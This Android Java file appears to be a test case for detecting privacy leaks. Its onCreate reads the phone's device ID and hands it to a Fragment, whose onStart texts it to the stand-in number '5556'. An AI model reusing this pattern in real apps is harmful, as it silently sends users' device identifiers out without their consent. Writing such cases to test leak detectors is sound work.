package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** Handed to a fragment as its argument. */
public class Fragmented extends Case {
    public static class Part extends Fragment {
        @Override public void onStart() { super.onStart(); SmsManager.getDefault().sendTextMessage("5556", null, getArguments().getString("k"), null, null); }
    }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        Part p = new Part();
        Bundle b = new Bundle();
        b.putString("k", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        p.setArguments(b);
        getFragmentManager().beginTransaction().add(android.R.id.content, p).commit();
    }
}
